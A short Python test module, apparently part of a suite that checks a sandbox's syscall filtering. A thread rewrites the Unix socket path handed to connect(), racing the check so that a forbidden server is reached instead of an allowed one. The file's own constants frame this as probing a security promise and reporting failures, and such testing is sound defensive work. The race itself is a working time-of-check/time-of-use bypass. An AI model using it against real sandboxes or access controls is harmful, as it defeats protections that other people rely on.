"""A thread rewrites the path of a Unix socket that is being connected to."""

import ctypes
import os
import socket
import struct

from attack import WORK, call, main
from race import Race, until_won

PROMISE = "the socket that was judged is the socket that is reached"
CONTROL = "the forbidden server answers"
ADVICE = "report it: Unix sockets are reached through held objects"


def name(path: str) -> bytes:
    return struct.pack("=H108s", socket.AF_UNIX, os.fsencode(path))


def attempt() -> bool:
    race = Race(name(f"{WORK}/hide1/socket"), name(f"{WORK}/hide0/socket"))
    race.by_thread()

    def reach() -> bool:
        with socket.socket(socket.AF_UNIX) as client:
            call("connect", client.fileno(), ctypes.c_void_p(race.address), 110)
            client.settimeout(2)
            return client.recv(1) == b"b"

    return until_won(reach)


main(attempt)
